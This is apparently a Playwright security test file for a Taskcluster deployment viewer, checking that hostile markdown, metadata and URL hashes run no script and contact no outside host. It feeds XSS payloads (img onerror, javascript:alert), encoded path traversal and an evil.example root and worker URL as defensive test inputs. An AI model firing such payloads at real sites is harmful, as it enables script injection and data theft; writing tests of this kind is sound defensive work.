import { storyIds } from '../local-deployment/stories/stories.ts';
import { expect, test } from './fixtures.ts';

for (const story of ['hostileMarkdown', 'hostileMetadata', 'oddNames', 'richMarkdown'] as const) {
  test(`${story}: runs no script and asks no stranger for anything`, async ({
    open,
    page,
    watch,
    app,
    sharedDeployment,
  }) => {
    await page.addInitScript(() => {
      const marks = window as unknown as { owned: number };
      marks.owned = 0;
      window.alert = () => {
        marks.owned += 1;
      };
    });
    await open(`#${storyIds[story]}`);
    await expect(page.getByRole('heading', { name: 'Description' })).toBeVisible();
    await expect(page.locator('.prose').first()).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { owned: number }).owned)).toBe(0);
    const ours = [
      new URL(app.url).origin,
      sharedDeployment.rootUrl,
      sharedDeployment.artifactsUrl,
      sharedDeployment.liveLogsUrl,
    ].map((url) => new URL(url).origin);
    const strangers = watch.requests
      .map(({ url }) => url)
      .filter((url) => !url.startsWith('data:') && !ours.includes(new URL(url).origin));
    expect(strangers).toEqual([]);
    const links = await page.locator('main a').evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href));
    expect(links.filter((href) => !/^(https?:|mailto:)/.test(href))).toEqual([]);
    const outside = await page
      .locator('main a[href^="http"]')
      .evaluateAll(
        (all) =>
          all.filter(
            (one) =>
              one.getAttribute('target') === '_blank' && !/noopener.*noreferrer/.test(one.getAttribute('rel') ?? ''),
          ).length,
      );
    expect(outside).toBe(0);
  });
}

const hashes = [
  '#<img src=x onerror=alert(1)>',
  '#javascript:alert(1)',
  '#__proto__',
  '#constructor/runs/0',
  '#%',
  '#%00%ff',
  `#${'a'.repeat(5000)}`,
  `#${storyIds.completed}/runs/999999999999`,
  `#${storyIds.completed}/runs/0/artifacts/%2e%2e/%2e%2e/x`,
  `#${storyIds.completed}/<script>`,
  '#////',
  '#?root=https://evil.example',
];
for (const hash of hashes) {
  test(`the hash ${hash.slice(0, 50)} does no harm`, async ({ open, page, watch }) => {
    watch.tolerated.push(/^404 GET/);
    await open(hash);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByText('could not be drawn')).toHaveCount(0);
    expect(watch.requests.filter(({ url }) => url.includes('evil.example'))).toEqual([]);
  });
}

test('a hostile ?root= is shown for what it is', async ({ page, app }) => {
  await page.goto(`${app.url}?root=javascript:alert(1)#${storyIds.completed}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Which Taskcluster?');
  await page.goto(`${app.url}?root=https://user:secret@tc.example.com#${storyIds.completed}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Which Taskcluster?');
});

test('the policy is sent as a header and stands in the page', async ({ page, app }) => {
  const response = await page.goto(app.url);
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(header).toContain("default-src 'none'");
  expect(header).toContain("require-trusted-types-for 'script'");
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /default-src 'none'/,
  );
});

test('the policy and Trusted Types really stop injected code', async ({ open, page, expectProblem }) => {
  expectProblem(/CSP violation|Trusted|TrustedHTML/);
  await open('#');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const stopped = await page.evaluate(() => {
    const outcomes: string[] = [];
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
      outcomes.push('html');
    } catch {}
    try {
      new Worker('https://evil.example/x.js');
      outcomes.push('worker');
    } catch {}
    return outcomes;
  });
  expect(stopped).toEqual([]);
});
